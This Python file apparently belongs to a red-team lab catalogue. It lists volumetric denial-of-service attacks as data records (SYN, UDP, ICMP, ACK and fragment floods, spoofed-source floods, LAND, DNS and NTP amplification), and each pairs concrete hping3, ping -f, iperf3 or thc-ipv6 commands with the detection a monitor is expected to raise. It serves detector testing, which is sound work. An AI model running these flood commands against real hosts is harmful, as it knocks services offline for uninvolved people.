"""Volumetric attacks: floods by one source, by forged sources, by reflectors; both families. Data only."""

from loomidi_lab.redteam.catalogue.places import ATTACKER, ATTACKER6, ATTACKERS, WEB, WEB6, forged, hping
from loomidi_lab.redteam.records import NOTED, Attack, Expect

_FAMILY, _DIRECT, _EXHAUSTING, _REFLECTED = "volumetric", "T1498.001", "T1499.001", "T1498.002"
_REFLECTORS = ATTACKERS[2:6]
_FAST_S = 1.0

FLOODS = (
    Attack(
        "syn-flood", _EXHAUSTING, _FAMILY, (hping("-S", "-p", "80"),), (ATTACKER,),
        Expect(("syn_flood",), within_s=_FAST_S, share=0.9), seconds=3, says="SYN flood of a web port",
        needs=("hping3",), short=True,
    ),
    Attack(
        "udp-flood", _DIRECT, _FAMILY, (hping("--udp", "-p", "9999", "-d", "512"),), (ATTACKER,),
        Expect(("udp_flood",), within_s=_FAST_S, share=0.5), seconds=3, says="UDP flood of a closed port",
        needs=("hping3",),
    ),
    Attack(
        "udp-flood-iperf", _DIRECT, _FAMILY,
        (("iperf3", "-c", WEB, "-u", "-b", "80M", "-l", "512", "-t", "3", "--connect-timeout", "3000"),), (ATTACKER,),
        Expect(("udp_flood",), within_s=_FAST_S, share=0.5), seconds=5, says="UDP at 80 Mbit/s in 512 octets",
        servers=("iperf3",), needs=("iperf3",),
    ),
    Attack(
        "icmp-flood", _DIRECT, _FAMILY, (hping("--icmp", "-d", "56"),), (ATTACKER,),
        Expect(("icmp_flood",), within_s=_FAST_S, share=0.5), seconds=3, says="echo requests", needs=("hping3",),
    ),
    Attack(
        "icmp-flood-6", _DIRECT, _FAMILY, (("ping", "-6", "-q", "-f", "-w", "3", WEB6),), (ATTACKER6,),
        Expect(("icmp_flood",), within_s=_FAST_S), seconds=4, says="ping -f over IPv6", needs=("ping",),
    ),
    Attack(
        "syn-flood-6", _EXHAUSTING, _FAMILY, (forged("syns", source=ATTACKER6, target=WEB6, seconds=2.5),),
        (ATTACKER6,), Expect(("syn_flood",), within_s=_FAST_S, share=0.9), seconds=6, says="SYN flood over IPv6",
        short=True,
    ),
    Attack(
        "syn-flood-6-random", _EXHAUSTING, _FAMILY,
        (("atk6-thcsyn6", "-i", "200", "-p", "80", "-m", "02:00:00:00:00:01", "eth0", WEB6, "80"),), (),
        Expect(("syn_flood",), act=NOTED), seconds=4, says="SYN flood over IPv6, forged sources",
        needs=("atk6-thcsyn6",),
    ),
    Attack(
        "syn-flood-forged", _EXHAUSTING, _FAMILY, (forged("forged_syns", target=WEB, seconds=5, pps=5000),), (),
        Expect(("syn_flood",), share=0.2), seconds=9, says="SYN flood forged over one network",
    ),
    Attack(
        "syn-flood-random", _EXHAUSTING, _FAMILY, (hping("-S", "-p", "80", "--rand-source"),), (),
        Expect(("syn_flood",), act=NOTED), seconds=4, says="SYN flood forged over all addresses", needs=("hping3",),
    ),
    Attack(
        "ack-flood-random", _EXHAUSTING, _FAMILY, (hping("-A", "-p", "80", "--rand-source"),), (),
        Expect(("tcp_flag_flood",), act=NOTED), seconds=4, says="ACK flood forged over all addresses",
        needs=("hping3",),
    ),
    Attack(
        "xmas-flood", _EXHAUSTING, _FAMILY, (hping("-F", "-P", "-U", "-p", "80"),), (ATTACKER,),
        Expect(("tcp_flag_flood",)), seconds=6, says="segments with FIN, PSH and URG", needs=("hping3",),
    ),
    Attack(
        "land", _EXHAUSTING, _FAMILY, (hping("-S", "-a", WEB, "-s", "80", "-k", "-p", "80"),), (WEB,),
        Expect(("syn_flood", "tcp_flag_flood"), act=NOTED), seconds=4, says="LAND: SYNs as from the victim itself",
        needs=("hping3",),
    ),
    Attack(
        "amplification-dns", _REFLECTED, _FAMILY,
        (forged("answers", sources=",".join(_REFLECTORS), target=WEB, seconds=2.5),), _REFLECTORS,
        Expect(("amplification",), within_s=_FAST_S, share=0.5), seconds=6, says="DNS answers of four reflectors",
        short=True,
    ),
    Attack(
        "amplification-ntp", _REFLECTED, _FAMILY,
        (forged("answers", sources=",".join(_REFLECTORS), target=WEB, port=123, size=440, seconds=2.5),), _REFLECTORS,
        Expect(("amplification",), within_s=_FAST_S, share=0.5), seconds=6, says="NTP lists of four reflectors",
    ),
    Attack(
        "fragment-flood", _DIRECT, _FAMILY, (hping("--udp", "-p", "9999", "-d", "2400", "-m", "800", "-f"),),
        (ATTACKER,), Expect(("ip_flood", "udp_flood")), seconds=4, says="UDP in fragments", needs=("hping3",),
    ),
)  # fmt: skip
